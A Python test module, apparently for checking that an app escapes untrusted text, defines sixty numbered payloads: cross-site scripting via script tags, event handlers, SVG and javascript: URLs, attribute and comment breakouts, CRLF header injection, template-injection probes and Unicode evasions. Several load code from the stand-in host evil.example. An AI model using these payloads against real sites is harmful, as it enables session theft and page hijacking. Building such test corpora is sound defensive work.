"""Turns what attackers write into fields that end on a page into sixty texts, each of which tells when it is obeyed.

A payload that runs calls ``xss`` with its number. An element that is made of one has the attribute ``pwn``, what it
loads is on the host evil.example, and a template that evaluates one prints PRODUCT.
"""

from __future__ import annotations

from collections.abc import Sequence
from dataclasses import dataclass
from typing import Final

EVIL: Final = "evil.example"
PRODUCT: Final = str(7919 * 7907)

_MARKUP: Final = (
    # Elements that run something by being there.
    "<script pwn>xss(#)</script>",
    "<ScRiPt pwn>xss(#)</sCrIpT >",
    "<script pwn src=//evil.example/#.js></script>",
    "<img pwn src=x onerror=xss(#)>",
    "<img/pwn/src=x/onerror=xss(#)>",
    "<svg pwn onload=xss(#)>",
    "<svg><script pwn>xss(#)</script></svg>",
    "<svg><animate pwn onbegin=xss(#) attributeName=x dur=1s></svg>",
    "<svg><set pwn onbegin=xss(#) attributeName=x to=y></svg>",
    "<body pwn onload=xss(#) onpageshow=xss(#)>",
    '<iframe pwn src="javascript:parent.xss(#)"></iframe>',
    '<iframe pwn srcdoc="<script>parent.xss(#)</script>"></iframe>',
    '<object pwn data="javascript:xss(#)"></object>',
    "<embed pwn src=//evil.example/#.swf>",
    "<details pwn open ontoggle=xss(#)><summary>s</summary>d</details>",
    "<input pwn autofocus onfocus=xss(#)>",
    "<select pwn autofocus onfocus=xss(#)></select>",
    "<video pwn><source onerror=xss(#)></video>",
    "<audio pwn src=x onerror=xss(#)></audio>",
    "<marquee pwn onstart=xss(#)>m</marquee>",
    # Elements that wait for a click, or change what others do.
    '<form pwn><button formaction="javascript:xss(#)">Continue</button></form>',
    '<a pwn href="javascript:xss(#)">More</a>',
    '<a pwn href="java&#10;script:xss(#)">More</a>',
    '<math pwn><a xlink:href="javascript:xss(#)">x</a></math>',
    "<base pwn href=//evil.example/>",
    '<meta pwn http-equiv=refresh content="0;url=//evil.example/#">',
    "<link pwn rel=stylesheet href=//evil.example/#.css>",
    "<style pwn>*{background:url(//evil.example/#)}</style>",
    '<p pwn style="background:url(//evil.example/#)">p</p>',
    "<template pwn shadowrootmode=open><img pwn src=x onerror=xss(#)></template>",
    # Out of what they stand in: an attribute, an element, a comment.
    '"><img pwn src=x onerror=xss(#)>',
    "'><svg pwn onload=xss(#)>",
    '"/><script pwn>xss(#)</script>',
    "</title><script pwn>xss(#)</script>",
    "</textarea><script pwn>xss(#)</script>",
    "</script><script pwn>xss(#)</script>",
    "</style><script pwn>xss(#)</script>",
    "--><script pwn>xss(#)</script><!--",
    "]]><script pwn>xss(#)</script><![CDATA[",
    "</option></select><img pwn src=x onerror=xss(#)>",
    "'\"--></title></style></textarea></script></noscript><svg pwn onload=xss(#)>",
    # Other alphabets, other lines.
    "\N{RIGHT-TO-LEFT OVERRIDE}<img pwn src=x onerror=xss(#)>\N{POP DIRECTIONAL FORMATTING}",
    "x\r\nSet-Cookie: pwn=1\r\n\r\n<img pwn src=x onerror=xss(#)>",
    "\N{LINE SEPARATOR}<img pwn\N{FORM FEED}src=x\tonerror=xss(#)>",
)
"""Each of these is obeyed by a page that takes texts for HTML."""
_OTHERS: Final = (
    # Out of an attribute's quotes, with no angle bracket.
    '" autofocus tabindex=0 onfocus="xss(#)" pwn="',
    "' autofocus tabindex=0 onfocus='xss(#)' pwn='",
    "` autofocus onfocus=xss(#) pwn=`",
    # Out of a script's text, and into it by way of JSON.
    "';xss(#);//",
    '"-xss(#)-"',
    "x\N{LINE SEPARATOR}xss(#)\N{PARAGRAPH SEPARATOR}//",
    r"\u003cimg pwn src=x onerror=xss(#)\u003e",
    # Templates and expressions.
    "{{7919*7907}}${7919*7907}#{7919*7907}<%= 7919*7907 %>",
    "{{''.__class__.__mro__[1].__subclasses__()}}{% include 'base.html' %}",
    "{{constructor.constructor('xss(#)')()}}",
    # Addresses.
    "javascript:xss(#)//",
    "//evil.example/#",
    # Markdown and what Streamlit makes of it.
    "[More](javascript:xss(#)) ![i](//evil.example/#.png) <https://evil.example/#>",
    "**pwnbold** :red[pwnbold] # pwnbold",
    r"$$\href{javascript:xss(#)}{pwnbold}$$ `pwnbold` :material/home:",
    # Letters that become angle brackets when somebody folds them.
    "\N{FULLWIDTH LESS-THAN SIGN}img pwn src=x onerror=xss(#)\N{FULLWIDTH GREATER-THAN SIGN}",
)
"""Each of these is obeyed in another place than an HTML page's text."""


@dataclass(frozen=True, slots=True)
class Payload:
    """A text that nothing may obey."""

    number: int
    text: str
    is_markup: bool
    """Whether a page obeys it that writes it out as it is."""

    @property
    def line(self) -> str:
        """It on one line: what an address can name."""
        return self.text.replace("\r\n", " ")

    def cut(self, limit: int) -> str:
        """As much of it as a field takes."""
        return self.text[:limit].strip()


def _numbered() -> Sequence[Payload]:
    texts = [(text, True) for text in _MARKUP] + [(text, False) for text in _OTHERS]
    return [Payload(n, text.replace("#", str(n)), is_markup) for n, (text, is_markup) in enumerate(texts, start=1)]


PAYLOADS: Final = _numbered()
